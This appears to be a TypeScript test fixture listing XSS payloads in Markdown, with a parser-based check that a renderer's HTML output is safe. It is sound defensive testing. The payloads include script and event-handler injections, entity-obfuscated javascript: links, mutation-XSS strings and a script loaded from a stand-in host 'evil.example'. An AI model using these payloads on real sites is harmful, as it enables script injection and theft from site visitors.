// Hostile Markdown for posts, as data any test can render (the renderer's own
// tests, the API's, the pages'), and the check that rendered HTML is safe.
// Sources: OWASP's XSS Filter Evasion Cheat Sheet, and reported bypasses of
// markdown-it (link validation, linkify, entities), DOMPurify (mutation XSS,
// namespace confusion) and sanitize-html (protocol-relative and odd schemes).
// The check reads the HTML with a real parser (htmlparser2, the one
// sanitize-html uses), never with a regular expression.
import { DomUtils, parseDocument } from 'htmlparser2';
import { expect } from 'vitest';

export interface XssPayload {
  name: string;
  markdown: string;
}

const JS = 'javascript:alert(document.domain)';

export const XSS_PAYLOADS: readonly XssPayload[] = [
  // Raw HTML: shown as text, never interpreted.
  { name: 'script tag', markdown: '<script>alert(1)</script>' },
  { name: 'script tag split over lines', markdown: '<scr\nipt>alert(1)</scr\nipt>' },
  { name: 'script with src', markdown: '<script src="//evil.example/x.js"></script>' },
  { name: 'img onerror', markdown: '<img src=x onerror=alert(1)>' },
  { name: 'img onerror without quotes or spaces', markdown: '<img/src=x/onerror=alert(1)>' },
  { name: 'svg onload', markdown: '<svg onload=alert(1)>' },
  { name: 'svg script', markdown: '<svg><script>alert(1)</script></svg>' },
  { name: 'body onload', markdown: '<body onload=alert(1)>' },
  { name: 'iframe javascript src', markdown: `<iframe src="${JS}"></iframe>` },
  { name: 'iframe srcdoc', markdown: '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>' },
  {
    name: 'object data',
    markdown: '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  },
  { name: 'embed src', markdown: '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">' },
  { name: 'form with formaction', markdown: `<form><button formaction="${JS}">Go</button></form>` },
  { name: 'input autofocus onfocus', markdown: '<input autofocus onfocus=alert(1)>' },
  { name: 'meta refresh', markdown: `<meta http-equiv="refresh" content="0;url=${JS}">` },
  { name: 'base href', markdown: '<base href="https://evil.example/">' },
  { name: 'link stylesheet', markdown: '<link rel="stylesheet" href="https://evil.example/x.css">' },
  { name: 'style tag', markdown: '<style>body{background:url("javascript:alert(1)")}</style>' },
  { name: 'style attribute expression', markdown: '<div style="width: expression(alert(1))">x</div>' },
  { name: 'details ontoggle', markdown: '<details open ontoggle=alert(1)>' },
  { name: 'a tag with javascript href', markdown: `<a href="${JS}">click</a>` },
  { name: 'html comment hiding a tag', markdown: '<!--><img src=x onerror=alert(1)>-->' },
  { name: 'CDATA', markdown: '<![CDATA[<script>alert(1)</script>]]>' },
  { name: 'processing instruction', markdown: '<?xml version="1.0"?><script>alert(1)</script>' },
  { name: 'mutation XSS: svg p style', markdown: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">' },
  {
    name: 'mutation XSS: math mtext table mglyph',
    markdown: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  },
  { name: 'mutation XSS: noscript', markdown: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  { name: 'template', markdown: '<template><script>alert(1)</script></template>' },
  { name: 'HTML block after a blank line', markdown: 'text\n\n<div>\n<script>alert(1)</script>\n</div>' },
  { name: 'HTML inside a code span', markdown: '`<script>alert(1)</script>`' },
  { name: 'HTML inside a fenced block', markdown: '```\n<script>alert(1)</script>\n```' },
  { name: 'fence info breaking the class', markdown: '```"><img src=x onerror=alert(1)>\ncode\n```' },
  { name: 'fence info with an on-attribute', markdown: '```js onmouseover=alert(1)\ncode\n```' },

  // Links: only http, https and mailto stay links.
  { name: 'inline javascript link', markdown: `[click](${JS})` },
  { name: 'javascript link in angle brackets', markdown: `[click](<${JS}>)` },
  { name: 'javascript link with a title', markdown: `[click](${JS} "title")` },
  { name: 'reference javascript link', markdown: `[click][x]\n\n[x]: ${JS}` },
  { name: 'collapsed reference javascript link', markdown: `[click][]\n\n[click]: ${JS}` },
  { name: 'shortcut reference javascript link', markdown: `[click]\n\n[click]: <${JS}>` },
  { name: 'autolink javascript', markdown: `<${JS}>` },
  { name: 'uppercase scheme', markdown: '[click](JAVASCRIPT:alert(1))' },
  { name: 'mixed-case scheme', markdown: '[click](JaVaScRiPt:alert(1))' },
  {
    name: 'decimal entity scheme',
    markdown: '[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))',
  },
  { name: 'hex entity scheme', markdown: '[click](&#x6A;avascript&#x3A;alert(1))' },
  { name: 'zero-padded entities', markdown: '[click](&#0000106avascript:alert(1))' },
  { name: 'named entity colon', markdown: '[click](javascript&colon;alert(1))' },
  { name: 'tab entity inside the scheme', markdown: '[click](java&#09;script:alert(1))' },
  { name: 'newline entity inside the scheme', markdown: '[click](java&#10;script:alert(1))' },
  { name: 'carriage return entity inside the scheme', markdown: '[click](java&#13;script:alert(1))' },
  { name: 'NUL entity inside the scheme', markdown: '[click](java&#0;script:alert(1))' },
  { name: 'leading space entity', markdown: '[click](&#32;javascript:alert(1))' },
  { name: 'leading control character entity', markdown: '[click](&#1;javascript:alert(1))' },
  { name: 'raw control character before the scheme', markdown: '[click](\u0001javascript:alert(1))' },
  { name: 'zero-width space inside the scheme', markdown: '[click](java\u200bscript:alert(1))' },
  { name: 'soft hyphen inside the scheme', markdown: '[click](java&shy;script:alert(1))' },
  { name: 'percent-encoded scheme letter', markdown: '[click](%6Aavascript:alert(1))' },
  { name: 'percent-encoded colon', markdown: '[click](javascript%3Aalert(1))' },
  { name: 'backslash-escaped colon', markdown: '[click](javascript\\:alert(1))' },
  { name: 'fullwidth letters', markdown: '[click](ｊａｖａｓｃｒｉｐｔ：alert(1))' },
  { name: 'vbscript link', markdown: '[click](vbscript:msgbox(1))' },
  { name: 'vbscript autolink', markdown: '<vbscript:msgbox(1)>' },
  { name: 'data text/html link', markdown: '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)' },
  { name: 'data image link (markdown-it lets it parse)', markdown: '[click](data:image/png;base64,iVBORw0KGgo=)' },
  { name: 'data autolink', markdown: '<data:text/html,<script>alert(1)</script>>' },
  { name: 'file link', markdown: '[click](file:///etc/passwd)' },
  {
    name: 'blob and filesystem links',
    markdown: '[a](blob:https://evil.example/x) [b](filesystem:https://evil.example/x)',
  },
  { name: 'livescript and mocha', markdown: '[a](livescript:alert(1)) [b](mocha:alert(1))' },
  { name: 'protocol-relative link', markdown: '[click](//evil.example/)' },
  { name: 'backslash host link', markdown: '[click](/\\evil.example/)' },
  { name: 'credentials pointing elsewhere', markdown: '[click](https://blog.example@evil.example/)' },
  { name: 'look-alike host', markdown: '[click](https://blog.example.evil.example/)' },
  { name: 'IDN homograph host', markdown: '[click](https://bіog.example/)' },
  { name: 'linkified bare URL', markdown: 'visit https://evil.example/?q=<script>alert(1)</script>' },
  { name: 'linkified www host', markdown: 'visit www.example.com/"onmouseover="alert(1)' },
  { name: 'linkified e-mail', markdown: 'write to someone@example.com"onclick="alert(1)' },
  { name: 'mailto with a javascript body', markdown: '[mail](mailto:x@example.com?body=javascript:alert(1))' },
  { name: 'nested brackets around a javascript link', markdown: `[[click](${JS})](https://example.com)` },
  { name: 'image inside a javascript link', markdown: `[![alt](/pic.png)](${JS})` },
  { name: 'link text with brackets and parens', markdown: `[a](b)(${JS})[c]` },
  {
    name: 'link title breaking out of the attribute',
    markdown: '[click](https://example.com "a\\" onmouseover=\\"alert(1)")',
  },
  { name: 'link title with single quotes', markdown: "[click](https://example.com 'a' onmouseover='alert(1)')" },
  { name: 'link URL with a quote', markdown: '[click](https://example.com/"onmouseover="alert(1))' },
  { name: 'link URL with angle brackets', markdown: '[click](<https://example.com/"><script>alert(1)</script>>)' },

  // Images: only from the site's own origin.
  { name: 'image javascript src', markdown: `![alt](${JS})` },
  { name: 'image data text/html', markdown: '![alt](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)' },
  { name: 'image data svg', markdown: '![alt](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)' },
  { name: 'image data png', markdown: '![alt](data:image/png;base64,iVBORw0KGgo=)' },
  { name: 'image from another site', markdown: '![tracker](https://evil.example/pixel.gif)' },
  { name: 'protocol-relative image', markdown: '![alt](//evil.example/x.png)' },
  { name: 'image over plain http to another site', markdown: '![alt](http://evil.example/x.png)' },
  { name: 'image with credentials pointing elsewhere', markdown: '![alt](https://blog.example@evil.example/x.png)' },
  { name: 'reference image from another site', markdown: '![alt][img]\n\n[img]: https://evil.example/x.png' },
  { name: 'image alt breaking the attribute', markdown: '![a" onerror="alert(1)](/x.png)' },
  { name: 'image title breaking the attribute', markdown: '![a](/x.png "t\\" onerror=\\"alert(1)")' },
  { name: 'image src breaking the attribute', markdown: '![a](/x.png"onerror="alert(1))' },
  { name: 'image alt holding HTML', markdown: '![<img src=x onerror=alert(1)>](https://evil.example/x.png)' },
  { name: 'image with a javascript link alt', markdown: `![[click](${JS})](https://evil.example/x.png)` },

  // HTML and entities where Markdown puts them.
  {
    name: 'HTML in a table cell',
    markdown: '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | <script>alert(1)</script> |',
  },
  { name: 'javascript link in a table cell', markdown: `| a |\n|:-:|\n| [click](${JS}) |` },
  {
    name: 'HTML in a task list item',
    markdown: '- [ ] <svg onload=alert(1)>\n- [x] <input onfocus=alert(1) autofocus>',
  },
  { name: 'task list item forging a checkbox', markdown: '- [x] <input type="checkbox" checked onclick=alert(1)>' },
  { name: 'HTML in a heading and a quote', markdown: '# <script>alert(1)</script>\n\n> <iframe src=//evil.example>' },
  {
    name: 'HTML in strikethrough and emphasis',
    markdown: '~~<b onmouseover=alert(1)>x</b>~~ *<i onclick=alert(1)>y</i>*',
  },
  { name: 'entity-encoded tag', markdown: '&lt;script&gt;alert(1)&lt;/script&gt;' },
  { name: 'double-encoded tag', markdown: '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;' },
  { name: 'numeric entities forming a tag', markdown: '&#60;script&#62;alert(1)&#60;/script&#62;' },
  { name: 'backslash-escaped angle brackets', markdown: '\\<script\\>alert(1)\\</script\\>' },
  { name: 'unclosed tag swallowing the rest', markdown: '<img src="x\n\nonerror=alert(1)//">' },
  { name: 'tag name with a NUL', markdown: '<scr\u0000ipt>alert(1)</scr\u0000ipt>' },
  { name: 'fullwidth angle brackets', markdown: '＜script＞alert(1)＜/script＞' },
  { name: 'right-to-left override in link text', markdown: '[\u202Egpj.exe](https://evil.example/x.exe)' },
  { name: 'heading id clobbering', markdown: '# location\n\n[x](#location)' },
];

// What a post's HTML may hold: the elements and attributes that Markdown
// makes, written out here on their own so the check does not trust sanitize.ts.
const ALLOWED_ELEMENTS = new Set(
  'p br hr h1 h2 h3 h4 h5 h6 blockquote pre code em strong s a img ul ol li input table thead tbody tr th td'.split(
    ' ',
  ),
);
const ALLOWED_ATTRIBUTES = new Set('href title rel src alt start class type checked disabled aria-label'.split(' '));
const SAFE_SCHEMES = new Set(['http:', 'https:', 'mailto:']);

/** Fails the test unless `html` is safe to show on a page served from `origin`. */
export function assertSafeHtml(html: string, origin: string): void {
  const document = parseDocument(html);
  const elements = DomUtils.findAll(() => true, document.children);
  for (const element of elements) {
    const where = `<${element.name}> in ${html}`;
    expect(ALLOWED_ELEMENTS.has(element.name), `element ${where}`).toBe(true);
    for (const [name, value] of Object.entries(element.attribs)) {
      expect(name.startsWith('on'), `event handler ${name} on ${where}`).toBe(false);
      // Ids and names clobber the page's globals; a style attribute is refused by the CSP.
      expect(['id', 'name', 'style'], `attribute ${name} on ${where}`).not.toContain(name);
      expect(ALLOWED_ATTRIBUTES.has(name), `attribute ${name} on ${where}`).toBe(true);
      if (name !== 'href' && name !== 'src') continue;
      // Read as the browser reads it: relative to the page, scheme lowercased,
      // tabs and newlines removed.
      const url = new URL(value, `${origin}/`);
      expect(SAFE_SCHEMES.has(url.protocol), `${name}="${value}" on ${where}`).toBe(true);
      if (name === 'src') expect(url.origin, `image ${where}`).toBe(origin);
      if (element.name === 'a' && url.origin !== origin) {
        const rel = (element.attribs.rel ?? '').split(/\s+/);
        expect(rel, `rel of ${where}`).toEqual(expect.arrayContaining(['nofollow', 'ugc', 'noopener']));
      }
    }
    if (element.name === 'input') {
      expect(element.attribs, `a control: ${where}`).toMatchObject({ type: 'checkbox', disabled: '' });
    }
  }
}
